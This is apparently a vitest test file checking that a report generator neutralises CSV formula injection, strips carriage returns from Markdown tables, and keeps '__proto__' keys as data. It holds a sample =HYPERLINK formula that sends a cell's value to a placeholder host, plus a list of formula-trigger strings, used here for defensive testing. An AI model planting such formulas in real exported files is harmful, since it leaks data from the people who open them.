/**
 * Report injection. Spreadsheets run a cell that starts with `=`, `+`, `-`, `@`,
 * tab or carriage return as a formula (OWASP "CSV Injection"), and names come from file names,
 * so a scenario file named `=HYPERLINK(…).yaml` must reach summary.csv and trials.csv as text.
 * A lone carriage return in a name must not split a report.md table row either.
 */
import { describe, expect, it } from 'vitest';
import {
  renderMarkdownReport,
  renderSummaryCsv,
  renderSummaryJson,
  trialRecord,
} from '../../../src/report/index.js';
import { makeSummary } from '../../fixtures/report/summary.js';
import { makeTrial } from '../../fixtures/report/trials.js';
import { parseCsvObjects } from './csv-parse.js';

const HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"click")';
/** Every character OWASP lists as starting a formula. */
const TRIGGERS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];

/** What a spreadsheet would take as a formula: the first character is a trigger. */
const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);

describe('summary.csv neutralises formula-like names', () => {
  const summary = makeSummary({
    'leak-under-load': HYPERLINK,
    truthful: '-2+3',
    'fixed-bake': '@x',
  });

  it('writes every text cell so that it starts with no formula trigger, and keeps the name after a quote', () => {
    const rows = parseCsvObjects(renderSummaryCsv(summary));
    for (const r of rows) {
      expect(isFormula(r.scenario!), r.scenario).toBe(false);
      expect(isFormula(r.policy!), r.policy).toBe(false);
    }
    expect(rows[0]!.scenario).toBe(`'${HYPERLINK}`);
    expect(rows.map((r) => r.policy)).toContain(`'-2+3`);
    expect(rows.map((r) => r.policy)).toContain(`'@x`);
    // An ordinary name is written as it is.
    expect(rows[2]!.policy).toBe('one-box-10m');
  });

  it('leaves numbers as numbers, negative ones included', () => {
    const s = makeSummary({ truthful: TRIGGERS[0]! });
    s.results[0]!.dora.changeFailureRate = -0.25;
    const rows = parseCsvObjects(renderSummaryCsv(s));
    expect(rows[0]!.changeFailureRate).toBe('-0.25');
    expect(rows[0]!.trials).toBe('1000');
  });
});

describe('trials.csv neutralises formula-like text', () => {
  it.each(TRIGGERS)('prefixes %j with a quote in every text column', (name) => {
    const base = makeTrial(5);
    const t = makeTrial(5, {
      scenario: name,
      policy: name,
      detectedBy: name,
      stageReached: name,
      build: { ...base.build, template: name, faultKinds: [name, 'x'] },
    });
    const r = trialRecord(t);
    for (const col of [
      'scenario',
      'policy',
      'detectedBy',
      'stageReached',
      'template',
      'faultKinds',
    ] as const) {
      expect(isFormula(r[col]), `${col}: ${JSON.stringify(r[col])}`).toBe(false);
      expect(r[col].startsWith(`'${name}`)).toBe(true);
    }
  });

  it('leaves numeric cells, negative ones included, as numbers', () => {
    const r = trialRecord(makeTrial(5, { onsetAt: -3.5, startAt: -60 }));
    expect(r.onsetMin).toBe('-3.5');
    expect(r.startAt).toBe('-60');
  });
});

describe('report.md with a carriage return in a name', () => {
  it('keeps every table row on one line', () => {
    const md = renderMarkdownReport(
      makeSummary({ truthful: 'tru\rthful', 'fixed-bake': 'a\r\nb' }),
    );
    expect(md).not.toContain('\r');
    // CommonMark ends a line at \n, \r\n or a lone \r: split as a Markdown renderer would.
    const lines = md.split(/\r\n|\r|\n/);
    // A table row starts and ends with a pipe; a split row would leave a fragment without them.
    for (const [i, line] of lines.entries()) {
      if (line.startsWith('|')) expect(line.endsWith('|'), `line ${i + 1}: ${line}`).toBe(true);
    }
    expect(lines.some((l) => l.startsWith('| tru thful |') || l.includes('tru thful'))).toBe(true);
  });
});

describe('summary.json with names that are Object.prototype keys', () => {
  it('keeps a description keyed `__proto__` as data', () => {
    const s = makeSummary({ 'leak-under-load': '__proto__' });
    const json = JSON.parse(renderSummaryJson(s)) as {
      descriptions: { scenarios: Record<string, string> };
    };
    expect(Object.hasOwn(json.descriptions.scenarios, '__proto__')).toBe(true);
    expect(Object.keys(json.descriptions.scenarios)).toEqual(['__proto__', 'conversion-drop']);
  });
});
